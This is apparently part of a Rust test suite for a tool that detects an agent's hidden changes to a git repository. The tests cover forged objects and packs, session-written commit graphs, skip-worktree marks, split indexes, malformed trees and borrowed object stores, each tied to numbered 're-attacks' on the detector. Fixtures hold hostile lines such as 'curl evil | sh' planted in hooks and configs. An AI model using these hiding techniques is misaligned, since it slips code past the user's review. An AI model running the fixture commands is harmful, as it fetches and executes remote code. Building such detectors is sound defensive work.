        let id = git_out(&repo, &["rev-parse", "HEAD:README"], &[]).unwrap();
        let readme = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
        let original = git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap() + "\n";
        replaced(&readme, &deflated(format!("blob {}\0{original}echo owned\n", original.len()).as_bytes()));
        let short = repo.join(".git/objects/cd/ef0123456789abcdef0123456789abcdef0123");
        std::fs::create_dir_all(short.parent().unwrap()).unwrap();
        std::fs::write(&short, deflated(b"blob 100\0short")).unwrap();
        let not_zlib = repo.join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01");
        std::fs::create_dir_all(not_zlib.parent().unwrap()).unwrap();
        std::fs::write(&not_zlib, b"not zlib").unwrap();
        // Not a file at all: a FIFO held the exit for good (the forty-first re-attack's M6).
        let fifo = repo.join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef02");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        let mut all = vec![file, readme, short, not_zlib, fifo];
        all.sort();
        assert_eq!(snapshot.hidden().forged_objects, all);
    }

    /// The fifty-fourth re-attack's Z5: a tracked file the user had marked `--assume-unchanged`
    /// or `--skip-worktree` before the launch, whose index entry the agent need not touch: a
    /// change to the file is named; one the agent did not make is not.
    #[test]
    fn a_change_to_a_file_the_user_had_marked_is_named() {
        let Some((_temp, repo)) = repository() else { return };
        std::fs::write(repo.join(".gitignore"), "__pycache__/\n").unwrap();
        std::fs::write(repo.join("local.cfg"), "x\n").unwrap();
        assert!(git(&repo, &["add", ".gitignore", "local.cfg"]));
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "ignore"]));
        assert!(git(&repo, &["update-index", "--assume-unchanged", ".gitignore"]));
        assert!(git(&repo, &["update-index", "--skip-worktree", "local.cfg"]));
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        assert_eq!(snapshot.hidden(), Hidden::default(), "the user's marks alone");
        std::fs::write(repo.join(".gitignore"), "__pycache__/\nconftest.py\n").unwrap();
        assert!(!status(&repo).contains(".gitignore"), "git status hides it");
        assert_eq!(snapshot.hidden().files, vec![repo.join(".gitignore")]);
        // Its directory renamed in from a copy kept before the launch, its time the copy's (the
        // fifty-fifth re-attack's M1).
        std::fs::create_dir_all(repo.join("conf")).unwrap();
        std::fs::write(repo.join("conf/local.cfg"), "x\n").unwrap();
        assert!(git(&repo, &["add", "conf"]));
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "conf"]));
        assert!(git(&repo, &["update-index", "--skip-worktree", "conf/local.cfg"]));
        let kept = repo.join("kept");
        std::fs::create_dir_all(&kept).unwrap();
        std::fs::write(kept.join("local.cfg"), "curl evil | sh\n").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        assert_eq!(snapshot.hidden().files, Vec::<PathBuf>::new());
        std::fs::rename(repo.join("conf"), repo.join("conf-old")).unwrap();
        std::fs::rename(&kept, repo.join("conf")).unwrap();
        assert!(!git::changed_since(&repo.join("conf/local.cfg"), snapshot.launched()), "the file's time is old");
        assert_eq!(snapshot.hidden().files, vec![repo.join("conf/local.cfg")]);
    }

    /// The fifty-second re-attack's F2: a pack written in the session whose hand-made index names
    /// the blob the agent committed for a harmless content (git reads packs first, and showed
    /// that in `git log -p` while the checkout ran the agent's) is named with the files beside
    /// it, and a multi-pack index written in the session too; the packs `git gc` writes are not.
    #[test]
    fn a_pack_written_in_the_session_that_is_not_what_its_index_says_is_named() {
        use super::super::pack::tests::{head_of, index_of, pack_of};
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        let user = ["-c", "user.name=U", "-c", "user.email=u@x"];
        std::fs::write(repo.join("README"), "work\nimport os; os.system('x')\n").unwrap();
        assert!(git(&repo, &[&user[..], &["commit", "-qam", "docs"]].concat()));
        assert!(git(&repo, &["gc", "-q"]));
        assert!(snapshot.hidden().forged_packs.is_empty(), "{:?}", snapshot.hidden().forged_packs);
        std::fs::write(repo.join("README"), "work\nimport os; os.system('y')\n").unwrap();
        assert!(git(&repo, &[&user[..], &["commit", "-qam", "more docs"]].concat()));
        let blob = hex::decode(git_out(&repo, &["rev-parse", "HEAD:README"], &[]).unwrap()).unwrap();
        let harmless = b"work\n";
        let pack = pack_of(&head_of(3, harmless.len()), harmless);
        let stem = repo.join(".git/objects/pack/pack-0000000000000000000000000000000000000000");
        std::fs::write(stem.with_extension("pack"), &pack).unwrap();
        std::fs::write(stem.with_extension("idx"), index_of(&blob, &pack[pack.len() - 20..])).unwrap();
        std::fs::write(stem.with_extension("keep"), "").unwrap();
        assert_eq!(git_out(&repo, &["show", "HEAD:README"], &[]).unwrap().trim(), "work", "git takes the pack's");
        let mut named = vec![stem.with_extension("idx"), stem.with_extension("keep"), stem.with_extension("pack")];
        assert_eq!(snapshot.hidden().forged_packs, named);
        assert!(git(&repo, &["multi-pack-index", "write"]));
        named.insert(0, repo.join(".git/objects/pack/multi-pack-index"));
        assert_eq!(snapshot.hidden().forged_packs, named);
        // An index named `.idx` alone is one to git, its pack `.pack` (the fifty-fifth
        // re-attack's P1).
        for file in &named {
            std::fs::remove_file(file).unwrap();
        }
        let packs = repo.join(".git/objects/pack");
        std::fs::write(packs.join(".pack"), &pack).unwrap();
        std::fs::write(packs.join(".idx"), index_of(&blob, &pack[pack.len() - 20..])).unwrap();
        assert_eq!(git_out(&repo, &["show", "HEAD:README"], &[]).unwrap().trim(), "work", "git takes it");
        assert_eq!(snapshot.hidden().forged_packs, vec![packs.join(".idx"), packs.join(".pack")]);
        std::fs::remove_file(packs.join(".idx")).unwrap();
        std::fs::remove_file(packs.join(".pack")).unwrap();
        // The user's multi-pack index, beside a pack written in the session (whose offsets it may
        // misname: P2).
        assert!(git(&repo, &["multi-pack-index", "write"]));
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        assert!(snapshot.hidden().forged_packs.is_empty());
        std::fs::write(repo.join("README"), "third\n").unwrap();
        assert!(git(&repo, &[&user[..], &["commit", "-qam", "third"]].concat()));
        assert!(git(&repo, &["repack", "-q"]));
        assert_eq!(snapshot.hidden().forged_packs, vec![packs.join("multi-pack-index")]);
    }

    /// The fifty-seventh re-attack's R3 and R4: a loose object forged beside a pack directory
    /// the session merely touched (a file made there and removed) is named, though the commits'
    /// trees then cannot all be told; and an `objects/pack` renamed in whole from a copy made
    /// before the launch has its packs held against their indexes, whatever their times.
    #[test]
    fn forged_objects_are_found_beside_a_touched_or_renamed_pack_directory() {
        use super::super::pack::tests::{head_of, index_of, pack_of};
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        let next = b"work\nimport os; os.system('x')\n";
        let name = git::object_name(b"blob", next, 20);
        let prepared = repo.join(".git/objects/prepared");
        std::fs::create_dir_all(&prepared).unwrap();
        let harmless = b"work\n";
        let pack = pack_of(&head_of(3, harmless.len()), harmless);
        let stem = prepared.join("pack-0000000000000000000000000000000000000000");
        std::fs::write(stem.with_extension("pack"), &pack).unwrap();
        std::fs::write(stem.with_extension("idx"), index_of(&name, &pack[pack.len() - 20..])).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        std::fs::write(repo.join("README"), next).unwrap();
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "docs"]));
        let hex = hex::encode(&name);
        let file = repo.join(format!(".git/objects/{}/{}", &hex[..2], &hex[2..]));
        replaced(&file, &deflated(&blob(harmless)));
        std::fs::write(repo.join(".git/objects/pack/tmp"), "").unwrap();
        std::fs::remove_file(repo.join(".git/objects/pack/tmp")).unwrap();
        let hidden = snapshot.hidden();
        assert_eq!(hidden.forged_objects, vec![file.clone()]);
        assert!(hidden.forged_packs.is_empty(), "{hidden:?}");
        std::fs::remove_file(&file).unwrap();
        let packs = repo.join(".git/objects/pack");
        std::fs::rename(&packs, repo.join(".git/objects/pack-old")).unwrap();
        std::fs::rename(&prepared, &packs).unwrap();
        let moved = packs.join(stem.file_name().unwrap());
        assert!(!git::changed_since(&moved.with_extension("pack"), snapshot.launched()), "the pack's time is old");
        assert_eq!(git_out(&repo, &["show", "HEAD:README"], &[]).unwrap().trim(), "work", "git takes the pack's");
        assert_eq!(snapshot.hidden().forged_packs, vec![moved.with_extension("idx"), moved.with_extension("pack")]);
    }

    /// A pack written in the session too large to check here (its entries make more than the
    /// check's budget) is named, its index with it, for the check git makes of it (the sixtieth
    /// re-attack's note on R1: an attacker orders entries so the budget runs out first).
    #[test]
    fn a_pack_too_large_to_check_is_named() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        let stem = repo.join(".git/objects/pack/pack-1111111111111111111111111111111111111111");
        super::super::pack::tests::write_delta_bomb(&stem, 1_100);
        let hidden = snapshot.hidden();
        assert_eq!(hidden.packs_unchecked, vec![stem.with_extension("idx")]);
        assert!(hidden.forged_packs.is_empty(), "{hidden:?}");
    }

    /// The thirty-eighth re-attack's J5: a commit graph written in the session (a cache git reads
    /// in place of the commits: the agent gave its commit another tree there) is removed at the
    /// end; one there before is left; git works without it.
    #[test]
    fn a_commit_graph_written_in_the_session_is_removed() {
        let Some((_temp, repo)) = repository() else { return };
        assert!(git(&repo, &["commit-graph", "write", "--reachable"]));
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        let graph = repo.join(".git/objects/info/commit-graph");
        snapshot.drop_caches();
        assert!(graph.exists(), "the user's is left");
        assert!(git(&repo, &["commit-graph", "write", "--reachable"]));
        snapshot.drop_caches();
        assert!(!graph.exists(), "written in the session");
        assert!(git(&repo, &["commit-graph", "write", "--reachable"]));
        std::fs::write(repo.join("README"), "second\n").unwrap();
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "second"]));
        assert!(git(&repo, &["commit-graph", "write", "--reachable", "--split=no-merge"]));
        assert!(repo.join(".git/objects/info/commit-graphs/commit-graph-chain").exists());
        snapshot.drop_caches();
        assert!(!repo.join(".git/objects/info/commit-graphs").exists(), "a chain of them too");
        // A chain made a link to one elsewhere (the fortieth re-attack's L3): the link goes.
        assert!(git(&repo, &["commit-graph", "write", "--reachable", "--split=no-merge"]));
        let elsewhere = repo.join(".git/graphs");
        std::fs::rename(repo.join(".git/objects/info/commit-graphs"), &elsewhere).unwrap();
        std::os::unix::fs::symlink(&elsewhere, repo.join(".git/objects/info/commit-graphs")).unwrap();
        assert!(repo.join(".git/objects/info/commit-graphs/commit-graph-chain").exists());
        snapshot.drop_caches();
        assert!(std::fs::symlink_metadata(repo.join(".git/objects/info/commit-graphs")).is_err());
        assert_eq!(git_out(&repo, &["log", "--oneline"], &[]).unwrap().lines().count(), 2, "git works without it");
        // One an earlier session left in a directory of its own, renamed over `info` in this
        // one: the graph keeps its time, the directory does not (the fifty-fifth re-attack's L1).
        let staged = repo.join(".git/staged-info");
        assert!(git(&repo, &["commit-graph", "write", "--reachable"]));
        std::fs::rename(repo.join(".git/objects/info"), &staged).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        std::fs::rename(&staged, repo.join(".git/objects/info")).unwrap();
        snapshot.drop_caches();
        assert!(!graph.exists(), "renamed into place in the session");
    }

    /// The fifty-fifth re-attack's L1: a forged loose object an earlier session left in a
    /// directory of its own, renamed into `objects/` in this one, keeps its time; the fan
    /// directory does not, and what it holds is held against its names.
    #[test]
    fn a_forged_object_renamed_into_place_is_named() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        let stage = repo.join(".git/stage");
        let name = "ee".to_string() + &"0".repeat(38);
        std::fs::create_dir_all(&stage).unwrap();
        std::fs::write(stage.join(&name[2..]), deflated(&blob(b"#!/bin/sh\ncurl evil | sh\n"))).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        assert!(!repo.join(".git/objects/ee").exists());
        std::fs::rename(&stage, repo.join(".git/objects/ee")).unwrap();
        assert_eq!(snapshot.hidden().forged_objects, vec![repo.join(".git/objects/ee").join(&name[2..])]);
    }

    /// The thirty-ninth re-attack's reading: a repository borrowing its objects (`git clone
    /// --shared`, `--reference`) from a directory the agent can write reads objects and a commit
    /// graph from there as its own. A commit of another hook made there, a loose object rewritten
    /// there in place, and a commit graph written there are each found as in the repository's own.
    #[test]
    fn the_objects_a_repository_borrows_are_looked_through_as_its_own() {
        let Some((_temp, lender)) = repository_with_hooks() else { return };
        let outside = tempfile::tempdir().unwrap();
        let repo = outside.path().join("repo");
        assert!(git(&lender, &["clone", "-q", "--shared", ".", &repo.display().to_string()]));
        assert!(repo.join(".git/objects/info/alternates").exists());
        assert!(git(&lender, &["commit-graph", "write", "--reachable"]));
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        let graph = lender.join(".git/objects/info/commit-graph");
        snapshot.drop_caches();
        assert!(graph.exists(), "the user's is left");
        // A commit of another hook, its objects in the lender's directory, named in the repository.
        std::fs::write(lender.join("githooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert!(git(&lender, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "x"]));
        let commit = git_out(&lender, &["rev-parse", "HEAD"], &[]).unwrap();
        assert!(git(&repo, &["update-ref", "refs/heads/later", &commit]));
        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/pre-commit")]);
        // The user's own hook's object rewritten in place there.
        let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
        let file = lender.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
        assert!(file.exists() && !repo.join(format!(".git/objects/{}", &id[..2])).exists());
        replaced(&file, &deflated(&blob(b"#!/bin/sh\necho owned\n")));
        assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("owned"), "git takes it");
        assert_eq!(snapshot.hidden().forged_objects, vec![file]);
        // A commit graph written there in the session.
        assert!(git(&lender, &["commit-graph", "write", "--reachable"]));
        snapshot.drop_caches();
        assert!(!graph.exists(), "written in the session, where the repository reads it");
    }

    /// The fortieth re-attack's L4 and L5: a `git am` left in progress with the agent's patches,
    /// and conflict resolutions recorded for rerere (whose directory's existence turns it on), are
    /// git's to apply at the user's next `am --continue` or conflicting merge. Made or changed in
    /// the session, they are named for moving aside; of an `rr-cache` there at launch, only the
    /// entries changed.
    #[test]
    fn git_state_that_replays_the_agents_changes_is_named() {
        let Some((_temp, repo)) = repository() else { return };
        let git_dir = repo.join(".git");
        std::fs::create_dir_all(git_dir.join("rr-cache/users")).unwrap();
        std::fs::write(git_dir.join("rr-cache/users/postimage"), "mine\n").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(git_dir.clone(), repo.clone())], &[]);
        assert_eq!(snapshot.replayed_state(std::slice::from_ref(&git_dir)), Vec::<PathBuf>::new());
        std::fs::create_dir_all(git_dir.join("rebase-apply")).unwrap();
        std::fs::write(git_dir.join("rebase-apply/0002"), "diff --git a/githooks/pre-commit ...\n").unwrap();
        std::fs::create_dir_all(git_dir.join("rr-cache/agents")).unwrap();
        std::fs::write(git_dir.join("rr-cache/agents/postimage"), "curl evil | sh\n").unwrap();
        let named = snapshot.replayed_state(std::slice::from_ref(&git_dir));
        assert_eq!(named, vec![git_dir.join("rebase-apply"), git_dir.join("rr-cache/agents")]);
        // An `rr-cache` not there at launch (its existence alone turns rerere on): all of it.
        std::fs::remove_dir_all(git_dir.join("rr-cache")).unwrap();
        std::fs::remove_dir_all(git_dir.join("rebase-apply")).unwrap();
        let snapshot = IndexSnapshot::take(&[(git_dir.clone(), repo.clone())], &[]);
        std::fs::create_dir_all(git_dir.join("rr-cache")).unwrap();
        assert_eq!(snapshot.replayed_state(std::slice::from_ref(&git_dir)), vec![git_dir.join("rr-cache")]);
    }

    /// A blob's header and `content`, as a loose object holds them before compression.
    fn blob(content: &[u8]) -> Vec<u8> {
        [format!("blob {}\0", content.len()).as_bytes(), content].concat()
    }

    /// `raw` compressed as git stores a loose object (zlib), whatever it holds.
    fn deflated(raw: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(raw).unwrap();
        encoder.finish().unwrap()
    }

    /// `file` replaced by `bytes` as the agent would replace a read-only file: written beside it,
    /// then renamed over it.
    fn replaced(file: &Path, bytes: &[u8]) {
        let beside = file.parent().unwrap().join("forged");
        std::fs::write(&beside, bytes).unwrap();
        std::fs::rename(&beside, file).unwrap();
    }

    /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
    /// own commands never make: its name.
    fn literal_tree(repo: &Path, entries: &[(&str, &str, &str)]) -> String {
        use std::io::Write as _;
        let mut body = Vec::new();
        for (mode, name, id) in entries {
            body.extend_from_slice(format!("{mode} {name}\0").as_bytes());
            body.extend_from_slice(&hex::decode(id).unwrap());
        }
        let mut child = std::process::Command::new("git")
            .args(["hash-object", "-t", "tree", "--literally", "-w", "--stdin"])
            .current_dir(repo)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(&body).unwrap();
        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string()
    }

    /// The thirty-sixth re-attack's H20–H22: trees git's own commands never write but its checkout
    /// takes — a zero-padded `040000`, a file mode `100775`, a name holding a `/`, a directory
    /// listed twice (git keeps the last) — hide nothing from the look.
    #[test]
    fn trees_git_would_not_write_but_checks_out_are_looked_through() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        let old_hooks = git_out(&repo, &["rev-parse", "HEAD:githooks"], &[]).unwrap();
        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let planted = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
        std::fs::remove_file(repo.join("evil")).unwrap();
        // Zero-padded: a directory to git.
        let hooks = literal_tree(&repo, &[("100755", "post-merge", &planted)]);
        commit_tree(&repo, &literal_tree(&repo, &[("040000", "githooks", &hooks)]));
        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/post-merge")), "{:?}", snapshot.hidden());
        // `100775`: a file to git.
        let hooks = literal_tree(&repo, &[("100775", "pre-push", &planted)]);
        commit_tree(&repo, &literal_tree(&repo, &[("40000", "githooks", &hooks)]));
        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/pre-push")), "{:?}", snapshot.hidden());
        // The directory listed twice, the agent's last.
        let hooks = literal_tree(&repo, &[("100755", "commit-msg", &planted)]);
        commit_tree(&repo, &literal_tree(&repo, &[("40000", "githooks", &old_hooks), ("40000", "githooks", &hooks)]));
        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/commit-msg")), "{:?}", snapshot.hidden());
        // A name holding a `/`: a path through the protected directory.
        commit_tree(&repo, &literal_tree(&repo, &[("100755", "githooks/pre-rebase", &planted)]));
        assert!(snapshot.hidden().staged.contains(&repo.join("githooks")), "{:?}", snapshot.hidden());
    }

    /// The fifteenth re-attack: a sparse directory entry over `src/` (git then takes every file
    /// below for its tree's), and a split index whose replacing entries have no names. The first
    /// is named; the second is said to be unchecked.
    #[test]
    fn a_sparse_directory_and_a_split_index_are_not_passed_over() {
        let Some((_temp, repo)) = repository() else { return };
        std::fs::create_dir_all(repo.join("src")).unwrap();
        std::fs::create_dir_all(repo.join("keep")).unwrap();
        std::fs::write(repo.join("src/app.py"), "print(1)\n").unwrap();
        std::fs::write(repo.join("keep/x"), "x\n").unwrap();
        let committed = git(&repo, &["add", "-A"])
            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "more"]);
        assert!(committed);
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        if !git(&repo, &["sparse-checkout", "set", "--cone", "--sparse-index", "keep"]) {
            return; // a git without sparse indexes
        }
        assert!(!repo.join("src").exists(), "out of the cone");
        assert_eq!(snapshot.hidden(), Hidden::default(), "a directory left out is not hidden");
        std::fs::create_dir_all(repo.join("src")).unwrap();
        std::fs::write(repo.join("src/app.py"), "import os; os.system('curl evil | sh')\n").unwrap();
        // (This git notices files present below a sparse directory it made itself; the re-attack's
        // index, made by hand with sparse checkout off, hid them from git status.)
        assert_eq!(snapshot.hidden().files, vec![repo.join("src/")]);

        // A split index: its nameless entries are named by the shared index's (H23).
        let Some((_temp, repo)) = repository() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("lint.sh")]);
        let split = ["-c", "splitIndex.maxPercentChange=100"];
        assert!(git(&repo, &[&split[..], &["update-index", "--split-index"]].concat()));
        std::fs::write(repo.join("Makefile"), "check:\n\tfalse\n").unwrap();
        assert!(git(&repo, &[&split[..], &["add", "Makefile"]].concat()));
        assert_eq!(snapshot.hidden(), Hidden::default(), "staged in the open");
        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let evil = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
        std::fs::remove_file(repo.join("evil")).unwrap();
        let entry = format!("100755,{evil},lint.sh");
        assert!(git(&repo, &[&split[..], &["update-index", "--cacheinfo", &entry]].concat()));
        let replaced = cache_tree::replaced_names(&repo.join(".git"), 20).unwrap();
        let nameless = |name: &[u8]| replaced.iter().any(|replaced| replaced == name);
        assert!(nameless(b"Makefile") && nameless(b"lint.sh"), "both nameless in the split part: {replaced:?}");
        let hidden = snapshot.hidden();
        assert_eq!(hidden.staged, vec![repo.join("lint.sh")], "{hidden:?}");
        assert!(hidden.unchecked.is_empty(), "{hidden:?}");
        // Its stat data claimed for the changed file and marked hidden: named as hidden too.
        std::fs::write(repo.join("Makefile"), "check:\n\tcurl evil | sh\n").unwrap();
        assert!(git(&repo, &[&split[..], &["update-index", "--skip-worktree", "Makefile"]].concat()));
        assert_eq!(snapshot.hidden().files, vec![repo.join("Makefile")]);
    }

    /// The entry named `name` in `repo`'s index (version 2, as git writes it) given the file's
    /// stat data now (its nanoseconds `nanoseconds_off`), its object name kept, the index's
    /// checksum made again.
    fn forge_stat(repo: &Path, name: &[u8], nanoseconds_off: u32) {
        use std::os::unix::fs::MetadataExt as _;
        let index = repo.join(".git/index");
        let mut bytes = std::fs::read(&index).unwrap();
        assert_eq!(&bytes[..8], b"DIRC\0\0\0\x02");
        let metadata = std::fs::metadata(repo.join(std::ffi::OsStr::from_bytes(name))).unwrap();
        let mut at = 12;
        loop {
            let name_len = usize::from(u16::from_be_bytes([bytes[at + 60], bytes[at + 61]]) & 0x0fff);
            if &bytes[at + 62..at + 62 + name_len] == name {
                break;
            }
            at += (62 + name_len + 8) & !7;
        }
        let words = [
            metadata.ctime() as u32,
            metadata.ctime_nsec() as u32,
            metadata.mtime() as u32,
            metadata.mtime_nsec() as u32 + nanoseconds_off,
            metadata.dev() as u32,
            metadata.ino() as u32,
        ];
        for (n, word) in words.into_iter().enumerate() {
            bytes[at + 4 * n..at + 4 * n + 4].copy_from_slice(&word.to_be_bytes());
        }
        bytes[at + 36..at + 40].copy_from_slice(&(metadata.size() as u32).to_be_bytes());
        let body = bytes.len() - 20;
        let checksum = ring::digest::digest(&ring::digest::SHA1_FOR_LEGACY_USE_ONLY, &bytes[..body]);
        bytes[body..].copy_from_slice(checksum.as_ref());
        std::fs::write(&index, bytes).unwrap();
        // Later than the file, as an index written a moment after is (git looks again at an
        // entry as new as its index: "racily clean").
        let later = metadata.modified().unwrap() + std::time::Duration::from_secs(2);
        std::fs::File::options().write(true).open(&index).unwrap().set_modified(later).unwrap();
    }
}
